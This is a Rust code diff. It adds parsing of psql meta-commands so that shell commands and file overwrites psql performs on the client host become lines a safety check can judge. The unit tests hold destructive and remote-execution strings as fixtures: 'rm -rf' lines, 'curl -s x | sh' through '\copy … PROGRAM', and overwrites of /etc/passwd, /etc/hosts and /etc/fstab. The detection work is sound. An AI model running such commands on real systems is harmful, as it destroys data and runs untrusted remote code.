@@ -44,6 +44,7 @@ pub(crate) fn server_sql(sql: &str, origin: &str, out: &mut Classified) -> Strin
         match line.trim_start().strip_prefix('\\') {
             Some(meta) => {
                 let cmd = name(meta);
+                client(cmd, &meta[cmd.len()..], out);
                 if command(cmd, n + 1, origin, out) {
                     text.push(';');
                 }
@@ -144,6 +145,146 @@ fn command(cmd: &str, line: usize, origin: &str, out: &mut Classified) -> bool {
     SENDS.contains(&cmd)
 }
 
+/// What psql itself does on the client's host for a meta-command, as shell lines for the line
+/// check to judge (`client` of `Classified`): `\! CMD` and `\o |CMD`, `\g |CMD`, `\w |CMD`
+/// run CMD in a shell; `\o FILE`, `\g FILE`, `\w FILE`, `\s FILE` and `\lo_export OID FILE`
+/// replace FILE (read as `: > FILE`); `\copy … TO 'FILE'` too, and `\copy … PROGRAM 'CMD'` runs
+/// CMD; a `` `CMD` `` in any other meta-command's arguments runs CMD. `rest`: the line after
+/// the command's name. A name made of a variable (`\o :file`) is not known here.
+fn client(cmd: &str, rest: &str, out: &mut Classified) {
+    let arg = rest.trim_start();
+    match cmd {
+        "!" => {
+            if !arg.trim().is_empty() {
+                out.client.push(arg.trim_end().to_owned());
+            }
+        }
+        "o" | "out" | "g" | "gx" | "w" | "write" | "s" => {
+            // `\g (format=csv) FILE`: the options in parentheses first.
+            let arg = match arg.strip_prefix('(') {
+                Some(inner) if cmd.starts_with('g') => {
+                    inner.split_once(')').map_or("", |(_, r)| r).trim_start()
+                }
+                _ => arg,
+            };
+            match arg.strip_prefix('|') {
+                Some(command) => out.client.push(command.trim().to_owned()),
+                None => replaced(meta_words(arg).first(), out),
+            }
+        }
+        "lo_export" => replaced(meta_words(arg).get(1), out),
+        "copy" => copy(arg, out),
+        _ => backquoted(arg, out),
+    }
+}
+
+/// psql's `-o` value: `|CMD` or a file, as `\o` takes it.
+pub(crate) fn output(value: &str, out: &mut Classified) {
+    match value.strip_prefix('|') {
+        Some(command) => out.client.push(command.trim().to_owned()),
+        // The word as given: no psql quoting on the command line.
+        None => replaced(Some(&value.to_owned()), out),
+    }
+}
+
+/// `\copy`'s file written or program run.
+fn copy(arg: &str, out: &mut Classified) {
+    let words = meta_words(arg);
+    let mut i = 0;
+    while i < words.len() {
+        let w = words[i].to_ascii_lowercase();
+        if w == "program"
+            && let Some(cmd) = words.get(i + 1)
+        {
+            out.client.push(cmd.clone());
+            i += 2;
+            continue;
+        }
+        if w == "to"
+            && let Some(file) = words.get(i + 1)
+            && !matches!(
+                file.to_ascii_lowercase().as_str(),
+                "program" | "stdout" | "pstdout"
+            )
+        {
+            replaced(Some(file), out);
+        }
+        i += 1;
+    }
+}
+
+/// A file psql writes anew: the line `: > 'FILE'`, for the line check's effects.
+fn replaced(file: Option<&String>, out: &mut Classified) {
+    if let Some(f) = file.filter(|f| !f.is_empty() && !f.starts_with(':')) {
+        out.client
+            .push(format!(": > '{}'", f.replace('\'', "'\\''")));
+    }
+}
+
+/// The commands in backquotes among a meta-command's arguments (not inside single quotes).
+fn backquoted(arg: &str, out: &mut Classified) {
+    let mut quoted = false;
+    let mut open = None;
+    for (i, c) in arg.char_indices() {
+        match c {
+            '\'' if open.is_none() => quoted = !quoted,
+            '`' if !quoted => match open.take() {
+                Some(from) => out.client.push(arg[from..i].to_owned()),
+                None => open = Some(i + 1),
+            },
+            _ => {}
+        }
+    }
+}
+
+/// A meta-command's arguments as psql splits them: at white space outside quotes and
+/// parentheses, `'…'` (with `''` for a quote) and `"…"` read as their text, up to a backslash.
+fn meta_words(arg: &str) -> Vec<String> {
+    let mut words = Vec::new();
+    let mut word = String::new();
+    let mut depth = 0usize;
+    let mut chars = arg.chars().peekable();
+    let mut started = false;
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' | '"' => {
+                started = true;
+                while let Some(q) = chars.next() {
+                    if q == c {
+                        if chars.peek() == Some(&c) {
+                            chars.next();
+                            word.push(c);
+                            continue;
+                        }
+                        break;
+                    }
+                    word.push(q);
+                }
+            }
+            '(' => {
+                depth += 1;
+                word.push(c);
+            }
+            ')' => {
+                depth = depth.saturating_sub(1);
+                word.push(c);
+            }
+            '\\' if depth == 0 => break,
+            c if c.is_whitespace() && depth == 0 => {
+                if started || !word.is_empty() {
+                    words.push(std::mem::take(&mut word));
+                }
+                started = false;
+            }
+            c => word.push(c),
+        }
+    }
+    if started || !word.is_empty() {
+        words.push(word);
+    }
+    words
+}
+
 /// Replaces `range` of `text` with spaces (its newlines kept), byte for byte.
 fn blank(text: &mut String, from: usize, to: usize) {
     let Some(part) = text.get(from..to) else {
@@ -209,6 +350,12 @@ fn line_end(text: &str, at: usize) -> usize {
 /// when it sends the buffer; returns `end`.
 fn meta(text: &mut String, start: usize, end: usize, origin: &str, out: &mut Classified) -> usize {
     let cmd = name(text.get(start + 1..end).unwrap_or("")).to_owned();
+    // A shell command or a file name runs to the end of the line, backslashes and all.
+    let rest = text
+        .get(start + 1 + cmd.len()..line_end(text, start))
+        .unwrap_or_default()
+        .to_owned();
+    client(&cmd, &rest, out);
     let sends = command(&cmd, line_of(text, start), origin, out);
     blank(text, start, end);
     if sends && text.is_char_boundary(start + 1) {
@@ -332,5 +479,71 @@ fn variables(text: &mut String, origin: &str, out: &mut Classified) {
             true,
         ));
         blank(text, from, to);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn client_of(sql: &str) -> Vec<String> {
+        let mut c = Classified::default();
+        server_sql(sql, "-c", &mut c);
+        c.client
+    }
+
+    #[test]
+    fn what_psql_runs_or_writes_itself_comes_out_as_shell_lines() {
+        assert_eq!(
+            client_of("\\! rm -rf /srv/x \\o y"),
+            ["rm -rf /srv/x \\o y"]
+        );
+        assert_eq!(client_of("\\o |gzip > /root/a.gz"), ["gzip > /root/a.gz"]);
+        assert_eq!(
+            client_of("SELECT 1 \\g |tee /etc/hosts"),
+            ["tee /etc/hosts"]
+        );
+        assert_eq!(client_of("\\o '/tmp/it''s'"), [": > '/tmp/it'\\''s'"]);
+        assert_eq!(
+            client_of("SELECT 1 \\g (format=csv) /etc/fstab"),
+            [": > '/etc/fstab'"]
+        );
+        assert_eq!(client_of("\\w /etc/motd"), [": > '/etc/motd'"]);
+        assert_eq!(
+            client_of("\\lo_export 16403 /etc/issue"),
+            [": > '/etc/issue'"]
+        );
+        assert_eq!(
+            client_of("\\copy (SELECT a FROM t WHERE b TO c) to '/root/t.csv' csv"),
+            [": > '/root/t.csv'"]
+        );
+        assert_eq!(
+            client_of("\\copy t FROM PROGRAM 'curl -s x | sh'"),
+            ["curl -s x | sh"]
+        );
+        assert_eq!(client_of("\\set x `rm -f /a` '`not`'"), ["rm -f /a"]);
+        let mut c = Classified::default();
+        output("|cat > /etc/passwd", &mut c);
+        output("/root/my report.txt", &mut c);
+        assert_eq!(c.client, ["cat > /etc/passwd", ": > '/root/my report.txt'"]);
+    }
+
+    #[test]
+    fn everyday_meta_commands_and_sql_strings_run_nothing_on_the_host() {
+        for sql in [
+            "\\timing on\n\\x\n\\dt+\nSELECT 1;",
+            "\\copy t from '/root/t.csv' csv",
+            "\\copy t to stdout csv",
+            "\\copy t to pstdout",
+            "\\i /root/migrate.sql",
+            "\\o",
+            "\\o :file",
+            "\\!",
+            "SELECT 'a \\o /etc/passwd' AS s;",
+            "SELECT $$ \\! rm -rf / $$;",
+            "-- \\! rm -rf /\nSELECT 1;",
+        ] {
+            assert!(client_of(sql).is_empty(), "{sql}: {:?}", client_of(sql));
+        }
     }
 }
